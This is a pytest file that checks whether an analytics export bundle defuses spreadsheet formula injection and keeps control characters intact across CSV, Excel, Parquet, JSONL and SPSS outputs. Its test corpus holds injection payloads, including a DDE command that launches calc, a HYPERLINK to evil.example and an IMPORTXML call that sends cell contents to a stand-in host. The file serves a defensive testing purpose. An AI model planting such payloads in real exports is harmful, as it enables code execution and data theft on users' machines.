"""Texts that a spreadsheet would run, and characters that break writers, in every format of the bundle."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

import pandas as pd
import pyreadstat
import pytest
from sqlmodel import Session

from tests.analytics.conftest import World
from tests.analytics.exports.bundles import write

STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u00a0=", "\x00="]
PAYLOADS = [
    'HYPERLINK("http://evil.example","x")',
    "cmd|' /C calc'!A0",
    "SUM(1;1)",
    'IMPORTXML(CONCAT("http://e.example/",A1),"//a")',
]
CORPUS = [start + payload for start in STARTS for payload in PAYLOADS]
CORPUS += ["http://evil.example/x", "mailto:a@b.example", "a\nb", 'q"uote', "x;y", "x,y", "_x0041_", "\ufeff=1+1"]
CORPUS += [f"a{chr(number)}b" for number in range(0x20)] + [f"{chr(number)}=1" for number in range(0x20)]
FORMULA_START = re.compile(r"\s*[=+\-@＝＋－＠\t\r\n\0]")


@pytest.fixture
def folder(session: Session, world: World, tmp_path: Path) -> Path:
    world.make_event(title="=cmd|' /C calc'!A0")
    for text in CORPUS:
        world.make_answer("S2", text)
    write(session, tmp_path / "bundle")
    return tmp_path / "bundle"


def test_csv_has_no_cell_that_begins_as_a_formula(folder: Path) -> None:
    for path in folder.glob("*.csv"):
        if path.name == "dictionary.csv":
            continue
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell for cell in cells if FORMULA_START.match(cell) and not _is_number(cell)] == []


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def test_flag_tells_which_texts_csv_has_changed(folder: Path) -> None:
    with (folder / "answers_long.csv").open(encoding="utf-8-sig", newline="") as file:
        for row in csv.DictReader(file):
            assert (row["text_guarded"] == "true") == row["text"].startswith("'")


def test_workbooks_hold_no_formulas_and_no_links(folder: Path) -> None:
    for path in folder.glob("*.xlsx"):
        with zipfile.ZipFile(path) as archive:
            sheets = b"".join(archive.read(name) for name in archive.namelist() if name.endswith((".xml", ".rels")))
        assert b"<f>" not in sheets
        assert b"<f " not in sheets
        assert b"<hyperlink" not in sheets
        assert b"relationships/hyperlink" not in sheets


def test_workbook_texts_come_back_with_control_characters(folder: Path) -> None:
    texts = list(pd.read_excel(folder / "answers_long.xlsx", sheet_name="answers_long")["text"])

    assert len(texts) == len(CORPUS)
    assert all(isinstance(text, str) for text in texts)
    assert '=HYPERLINK("http://evil.example","x")' in texts
    assert any("a\x07b" in text or "a_x0007_b" in text for text in texts)


def test_files_for_programs_have_the_texts_unchanged(folder: Path) -> None:
    parquet = sorted(pd.read_parquet(folder / "answers_long.parquet")["text"])
    lines = (folder / "answers_long.jsonl").read_text(encoding="utf-8").split("\n")[:-1]

    assert parquet == sorted(CORPUS)
    assert sorted(json.loads(line)["text"] for line in lines) == sorted(CORPUS)


def test_spss_shows_nul_and_keeps_the_rest(folder: Path) -> None:
    texts = list(pyreadstat.read_sav(folder / "answers_long.sav")[0]["text"])

    assert sorted(texts) == sorted(text.replace("\0", "␀") for text in CORPUS)
